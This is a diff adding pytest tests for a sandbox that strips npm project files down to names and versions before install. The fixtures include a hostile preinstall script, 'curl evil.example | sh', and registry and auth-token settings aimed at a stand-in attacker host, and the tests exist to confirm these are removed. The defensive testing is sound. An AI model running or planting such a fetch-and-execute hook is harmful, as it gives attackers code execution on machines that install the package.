@@ -1,0 +1,106 @@
+"""What npm gets of a checkout: names and versions, and nothing that runs or points elsewhere."""
+
+import json
+
+import pytest
+
+from sandbox.recipe.detect import plan_recipe
+from sandbox.recipe.node_packages import node_files
+from sandbox.types import JobHints, NodePart, Recipe
+
+PACKAGE = {
+    "name": "web",
+    "scripts": {"preinstall": "curl evil.example | sh", "test": "vitest run"},
+    "devDependencies": {"vitest": "^3"},
+    "packageManager": "npm@10.8.2+sha512.abc",
+    "publishConfig": {"registry": "https://evil.example"},
+}
+LOCK = b'{"lockfileVersion": 3, "packages": {}}'
+
+
+def plan(contents: dict[str, bytes], command: str = "npm test") -> Recipe:
+    return plan_recipe(JobHints(command=command), contents.keys(), contents)
+
+
+def project(**more: bytes) -> dict[str, bytes]:
+    files = {"package.json": json.dumps(PACKAGE).encode(), "package-lock.json": LOCK}
+    return files | {name.replace("__", "."): content for name, content in more.items()}
+
+
+def test_the_packages_of_a_lock_file_are_planned() -> None:
+    recipe = plan(project(__nvmrc=b"20.11\n"))
+    assert recipe.node == NodePart(version="20.11", manager_version="10.8.2", folders=(".",))
+    assert (recipe.command, recipe.kind, recipe.obstacles) == ("npm test", "test", ())
+
+
+def test_scripts_and_registries_do_not_reach_npm() -> None:
+    npmrc = (
+        b"registry = https://evil.example/\n//evil.example/:_authToken = t\nlegacy-peer-deps=true"
+    )
+    contents = project(__npmrc=npmrc)
+    recipe = plan(contents)
+    files = node_files(recipe, contents.keys(), contents)
+    assert set(files) == {"node/package.json", "node/package-lock.json"}
+    assert json.loads(files["node/package.json"]) == {
+        "name": "web",
+        "devDependencies": {"vitest": "^3"},
+    }
+    assert recipe.node is not None
+    assert recipe.node.legacy_peers
+    assert any(entry.step == ".npmrc" for entry in recipe.fidelity)
+
+
+def test_workspaces_come_along_and_installed_packages_do_not() -> None:
+    contents = project() | {
+        "packages/a/package.json": b'{"name": "a", "scripts": {"install": "x"}}',
+        "packages/b/package.json": b"[" * 100_000,
+        "node_modules/c/package.json": b'{"name": "c"}',
+    }
+    files = node_files(plan(contents), contents.keys(), contents)
+    assert json.loads(files["node/packages/a/package.json"]) == {"name": "a"}
+    assert json.loads(files["node/packages/b/package.json"]) == {}
+    assert not any("node_modules" in name for name in files)
+
+
+@pytest.mark.parametrize(
+    ("contents", "folders"),
+    [
+        (project(), (".",)),
+        ({"package.json": b'{"name": "plain"}'}, ()),
+        ({"package.json": b'{"dependencies": {"x": "1"}}'}, None),
+        ({"package.json": b"not json", "npm-shrinkwrap.json": b"{}"}, (".",)),
+    ],
+)
+def test_packages_without_a_lock_file_of_npm_are_not_installed(
+    contents: dict[str, bytes], folders: tuple[str, ...] | None
+) -> None:
+    node = plan(contents).node
+    assert (node.folders if node is not None else None) == folders
+
+
+def test_a_python_project_needs_no_node() -> None:
+    contents = project() | {"test_x.py": b""}
+    assert plan(contents, "python -m pytest").node is None
+    assert node_files(Recipe(command="x"), contents.keys(), contents) == {}
+
+
+@pytest.mark.parametrize(
+    ("command", "expected", "kind"),
+    [
+        ("npm run lint", "npm run lint", "lint"),
+        ("npm run -s test:unit", "npm run -s test:unit", "test"),
+        ("npm run format:check", "npm run format:check", "format"),
+        ("npx tsc --noEmit", "npx tsc --noEmit", "types"),
+        ("npx prettier --check .", "npx prettier --check .", "format"),
+        ("node --test", "node --test", "test"),
+        ("npm ci && npm run build", "", "other"),
+    ],
+)
+def test_commands_of_node_have_their_kind(command: str, expected: str, kind: str) -> None:
+    job = {"runs-on": "ubuntu-latest", "steps": [{"name": "Go", "run": command}]}
+    workflow = json.dumps({"on": "push", "jobs": {"check": job}}).encode()
+    contents = project() | {".github/workflows/ci.yml": workflow}
+    recipe = plan_recipe(JobHints(job_name="check"), contents.keys(), contents)
+    assert recipe.node is not None
+    if expected:
+        assert (recipe.command, recipe.kind) == (expected, kind)
